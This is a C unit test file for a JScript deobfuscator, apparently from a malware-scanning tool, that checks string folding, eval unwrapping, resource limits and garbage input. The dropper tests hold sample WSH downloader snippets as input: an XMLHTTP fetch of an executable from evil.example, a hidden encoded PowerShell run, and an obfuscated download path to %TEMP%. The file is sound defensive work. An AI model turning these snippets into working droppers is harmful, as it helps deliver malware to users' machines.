/*
 * test_deob_js.c - the JScript folder (src/deob/js.c): what each
 * supported construct yields (exact strings and how), the dropper shapes
 * of WSH downloaders, what is not recorded (plain literals, short values,
 * unknowns), eval within lim->depth, the step, byte and time limits,
 * garbage, truncated and empty input, and 10 MB of garbage and of
 * pathological patterns within a second.
 */
#include "test_helpers.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "deob/deob.h"
#include "deob_test.h"

/* deob_js() on s with lim (NULL: defaults) into r (initialised here). */
static void
run(const char *s, const struct deob_limits *lim, struct deob_result *r)
{
	deob_run_checked(deob_js, s, lim, r);
}

static void
dump(const struct deob_result *r)
{
	deob_dump(r);
	print_error("  limit %s\n", r->limit != NULL ? r->limit : "-");
}

/* s must yield value as how (among others). */
static void
expect(const char *s, const char *value, const char *how)
{
	struct deob_result r;
	run(s, NULL, &r);
	if (!deob_has(&r, value, how)) {
		print_error("%s\nmissing [%s] %s in:\n", s, how, value);
		dump(&r);
		fail();
	}
	deob_result_clear(&r);
}

/* s must yield exactly n strings. */
static void
expect_count(const char *s, guint n)
{
	struct deob_result r;
	run(s, NULL, &r);
	if (r.strs->len != n) {
		print_error("%s\nwant %u strings, got:\n", s, n);
		dump(&r);
		fail();
	}
	deob_result_clear(&r);
}

#define FOLD "js folding"
#define LIT "js literal"
#define EVAL "js eval"

static void
test_constructs(void **state)
{
	(void)state;
	expect("x = 'ht' + \"tp://\" + `a.example/` + 'x';", "http://a.example/x", FOLD);
	expect("x = '\\x68\\u0074' + 't\\160' + ':\\/\\/b';", "http://b", FOLD);
	expect("x = \"h\" + 't\\\\p' + '\\n' + 'x';", "ht\\p\nx", FOLD);
	expect("x = '\\uD83D\\uDE00' + 'okay';", "\360\237\230\200okay", FOLD);
	expect("x = 'ab' + 1 + 2;", "ab12", FOLD);
	expect("x = 1 + 2 + 'abc';", "3abc", FOLD);
	expect("x = 'n' + 2 * 3 + (10 - 4) / 2 + 7 % 4;", "n633", FOLD);
	expect("x = String.fromCharCode(104, 0x74, 116, 112, 58, 47, 47, 99);", "http://c",
	    FOLD);
	expect("x = String.fromCharCode(72 + 32, 0x69, -(-110), 65536 + 103);", "hing", FOLD);
	expect("x = String['fromCharCode'](119, 119, 119, 46);", "www.", FOLD);
	expect("x = 'exe.d/moc.elpmaxe.d//:ptth'.split('').reverse().join('');",
	    "http://d.example.com/d.exe", FOLD);
	expect("x = 'h*t*t*p'.split('*').join('');", "http", FOLD);
	expect("x = 'h*t*t*p'.split('*').reverse().join('-');", "p-t-t-h", FOLD);
	expect("x = ['a', 'b', 'cd'].join();", "a,b,cd", FOLD);
	expect("x = 'hXXp://e.example/'.replace('XX', 'tt');", "http://e.example/", FOLD);
	expect("x = 'aXbXcX'.replace('X', '');", "abXcX", FOLD);
	expect("x = 'aXbXcXd'.replace(/X/g, '');", "abcd", FOLD);
	expect("x = 'a.b.c.d'.replace(/\\./g, '-');", "a-b-c-d", FOLD);
	expect("x = 'aXbXcX'.replaceAll('X', '1');", "a1b1c1", FOLD);
	expect("x = 'ht'.concat('tp', ':', 8);", "http:8", FOLD);
	expect("x = unescape('%68%74%74%70%3a%2F%2F%u0066.example');", "http://f.example",
	    FOLD);
	expect("x = decodeURIComponent('%68%74%74%70%3a%2F%2Fg%C3%A9');", "http://g\303\251",
	    FOLD);
	expect("x = atob('aHR0cDovL2guZXhhbXBsZS94');", "http://h.example/x", FOLD);
	expect("x = atob('aHR0cDov\\nL2guZXhhbXBsZS95');", "http://h.example/y", FOLD);
	expect("var a = 'ht' + 'tp', b = a + '://i.example'; y = b + '/z';",
	    "http://i.example/z", FOLD);
	expect("var p = ['ht', 'tp:', '//j.example']; u = p[0] + p[1] + p[2];",
	    "http://j.example", FOLD);
	expect("var p = ['ht', 'tp:', '//j.example']; u = p[0x2] + p[1];", "//j.exampletp:",
	    FOLD);
	expect("var s = 'abcdef'; u = s[1] + s[3] + s[5] + s.length;", "bdf6", FOLD);
	expect("var c = ''; c += 'ht'; c += 'tp:'; c += '//k';", "http://k", FOLD);
	expect("var f = String.fromCharCode; u = f(104, 105, 106, 107);", "hijk", FOLD);
	expect("u = ('ab' + 'cd').split('').reverse().join('');", "dcba", FOLD);
	expect("/* c */ u = 'ab' // comment\n + 'cde';", "abcde", FOLD);
	expect_count("u = `a` + `b${x}c` + 'dddd';", 0);	/* ${}: unknown, and it spreads */
}

static void
test_droppers(void **state)
{
	(void)state;
	const char *xhr = "var x = new ActiveXObject(\"MSXML2.XMLHTTP\");\n"
	    "x.open(\"GET\", \"ht\" + \"tp://evil.example/\" + \"p.exe\", false);\n"
	    "x.send();\n";
	expect(xhr, "http://evil.example/p.exe", FOLD);
	expect(xhr, "tp://evil.example/", LIT);
	expect_count(xhr, 2);
	const char *run_ = "WScript.CreateObject(\"WScript.Shell\").Run(\"po\"+\"wershell "
	    "-enc SQBFAFgA\", 0, true);";
	expect(run_, "powershell -enc SQBFAFgA", FOLD);
	expect_count(run_, 1);
	/* the usual bundle: a string table, a decoder function, a path */
	const char *tbl = "var _0x = ['\\x68\\x74\\x74\\x70', '\\x3a\\x2f\\x2f', 'm.example'];\n"
	    "var url = _0x[0] + _0x[1] + _0x[2] + '/' + 'a.js';\n"
	    "var sh = new ActiveXObject('WScript.Shell');\n"
	    "var path = sh.ExpandEnvironmentStrings('%TEMP%') + '\\\\' + 'a' + '.exe';\n"
	    "var o = WScript.CreateObject('MSXML2.ServerXMLHTTP'); o.open('GET', url);\n";
	expect(tbl, "http://m.example/a.js", FOLD);
	/* the folded command line, recorded whole */
	expect("var c = 'cmd /c ' + 'start ' + 'calc'; new ActiveXObject('WScript.Shell')"
	    ".Run(c);", "cmd /c start calc", FOLD);
	/* a literal URL alone */
	expect("o.open('GET', 'http://n.example/x.exe');", "http://n.example/x.exe", LIT);
}

static void
test_eval(void **state)
{
	(void)state;
	const char *s = "eval('var q = \"ht\" + \"tp://o.example\";' + ' run(q + \"/p\")');";
	expect(s, "var q = \"ht\" + \"tp://o.example\"; run(q + \"/p\")", EVAL);
	expect(s, "http://o.example", FOLD);
	expect(s, "http://o.example/p", FOLD);
	expect("f = new Function('a', 'return \"fu\" + \"nc://x\"');", "func://x", FOLD);
	expect("f = new Function('a', 'return \"fu\" + \"nc://x\"');",
	    "return \"fu\" + \"nc://x\"", EVAL);
	expect("Function('return 1')();", "return 1", EVAL);
	/* eval wins over folding for the same value */
	expect("var c = 'x=' + '\"abcd\"+\"efgh\"'; eval(c);", "x=\"abcd\"+\"efgh\"", EVAL);
	expect("var c = 'x=' + '\"abcd\"+\"efgh\"'; eval(c);", "abcdefgh", FOLD);

	/* eval within eval: depth 1 stops after one level */
	const char *deep = "eval(\"eval('u = \\\\'ab\\\\' + \\\\'cd://\\\\'')\")";
	struct deob_result r;
	run(deep, NULL, &r);
	assert_true(deob_has(&r, "ab" "cd://", FOLD));
	assert_null(r.limit);
	deob_result_clear(&r);
	struct deob_limits lim = { .depth = 1 };
	run(deep, &lim, &r);
	assert_false(deob_has(&r, "abcd://", FOLD));
	assert_true(deob_has(&r, "u = 'ab' + 'cd://'", EVAL));
	assert_string_equal(r.limit, "depth");
	deob_result_clear(&r);
}

static void
test_not_recorded(void **state)
{
	(void)state;
	/* plain literals, short values, a fold equal to a plain literal */
	expect_count("var a = 'abcdef'; b = a; c = 'ab' + 'c'; d = 'ab' + 'cdef';", 0);
	/* unknowns spread */
	expect_count("u = x + 'abcd'; v = 'abcd'.replace(/a.c/g, 'x'); w = f('ab' + 'ce') "
	    "- 1 + 'zzzz';", 1);	/* f's argument */
	expect_count("u = 'abcd'.replace('b', '$&$&'); v = 'abcd'.replace(/b/i, 'x');", 0);
	expect_count("u = ['a', x].join(''); v = atob('!!!!'); w = "
	    "decodeURIComponent('%zz');", 0);
	expect_count("u = 'a' - 'b'; v = ('ab' == 'ab') + 'cdef';", 0);
	/* tokens that are not expressions */
	expect_count("if (a) { b(); } else { for (var i = 0; i < 10; i++) {} } "
	    "function f(a, b) { return a; } switch (x) { case 1: break; }", 0);
}

static void
test_limits(void **state)
{
	(void)state;
	GString *s = g_string_new(NULL);
	for (int i = 0; i < 3000; i++)
		g_string_append_printf(s, "x%d = 'ab' + 'cd%d' + String.fromCharCode(%d);\n", i,
		    i, 65 + i % 26);
	struct deob_result r;
	struct deob_limits lim = { .steps = 100 };
	run(s->str, &lim, &r);
	assert_string_equal(r.limit, "steps");
	assert_true(r.strs->len > 0 && r.strs->len < 10);
	deob_result_clear(&r);

	lim = (struct deob_limits){ .bytes = 40 };
	run(s->str, &lim, &r);
	assert_string_equal(r.limit, "bytes");
	assert_true(r.bytes <= 40 && r.strs->len > 0);
	deob_result_clear(&r);

	lim = (struct deob_limits){ .deadline = g_get_monotonic_time() - 1 };
	run(s->str, &lim, &r);
	assert_string_equal(r.limit, "time");
	deob_result_clear(&r);

	run(s->str, NULL, &r);
	assert_null(r.limit);
	assert_int_equal(r.strs->len, 3000);
	deob_result_clear(&r);
	g_string_free(s, TRUE);

	/* a string grows to DEOB_STR_MAX, not further */
	run("a = 'abcdefgh'; a += a; a += a; a += a; a += a; a += a; a += a; a += a; "
	    "a += a; a += a; a += a; a += a; a += a; a += a; a += a; a += a; a += a; "
	    "a += a; a += a; a += a; a += a;", NULL, &r);
	assert_null(r.limit);
	for (guint i = 0; i < r.strs->len; i++)
		assert_true(((struct deob_str *)r.strs->pdata[i])->len <= DEOB_STR_MAX);
	deob_result_clear(&r);
}

static void
test_garbage_and_truncated(void **state)
{
	(void)state;
	expect_count("", 0);
	struct deob_result r;
	deob_result_init(&r);
	deob_js(NULL, 0, NULL, &r);
	assert_int_equal(r.strs->len, 0);
	deob_result_clear(&r);
	/* cut anywhere */
	const char *full = "var u = 'ht' + \"tp://q.example/\" + String.fromCharCode(97, 98)"
	    ".split('').reverse().join('') + unescape('%41') + atob('QUJD') + `t`; eval(u);";
	for (size_t n = 0; n <= strlen(full); n++) {
		deob_result_init(&r);
		deob_js(full, n, NULL, &r);
		deob_result_clear(&r);
	}
	expect(full, "http://q.example/baAABCt", EVAL);	/* eval wins */
	/* unterminated literals end their line */
	expect("a = 'abc\nb = 'de' + 'fgh';", "defgh", FOLD);
	expect("a = `abc\nb = 'de' + 'fgh';", "defgh", FOLD);
	/* invalid UTF-8 and NUL bytes inside literals */
	expect("a = '\377\376' + 'abc';", "\357\277\275\357\277\275abc", FOLD);
	expect("a = 'ab\\0' + 'cdef';", "ab\357\277\275cdef", FOLD);	/* NUL: U+FFFD */
}

static void
test_ten_megabytes(void **state)
{
	(void)state;
	const size_t n = 10u * 1024 * 1024;
	char *b = g_malloc(n);
	GRand *rnd = g_rand_new_with_seed(18);
	for (size_t i = 0; i < n; i++)
		b[i] = (char)g_rand_int_range(rnd, 0, 256);
	g_rand_free(rnd);
	deob_within_budget(deob_js, "random", b, n);
	g_free(b);
	static const char *const patterns[] = {
		"String.fromCharCode(",
		"((((",
		"[[[[",
		"a=",
		"a+=",
		"a?",
		"!-~+",
		"'",
		"\"\\",
		"`",
		"/*",
		"x.replace(/[",
		"f(/",
		"a.b.c.",
		"eval(",
		"'ab'+",
		"x=x+x;",
		"String.fromCharCode(65)+",
		"'abcd'.split('').reverse().join('')+",
	};
	for (size_t i = 0; i < G_N_ELEMENTS(patterns); i++) {
		b = deob_repeat(patterns[i], n);
		deob_within_budget(deob_js, patterns[i], b, n);
		g_free(b);
	}
	/* many distinct folded values: bounded by steps and records */
	GString *s = g_string_new(NULL);
	for (unsigned i = 0; s->len < n; i++)
		g_string_append_printf(s, "'a%u'+'bcd';", i);
	deob_within_budget(deob_js, "distinct", s->str, s->len);
	g_string_free(s, TRUE);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_constructs),
		cmocka_unit_test(test_droppers),
		cmocka_unit_test(test_eval),
		cmocka_unit_test(test_not_recorded),
		cmocka_unit_test(test_limits),
		cmocka_unit_test(test_garbage_and_truncated),
		cmocka_unit_test(test_ten_megabytes),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
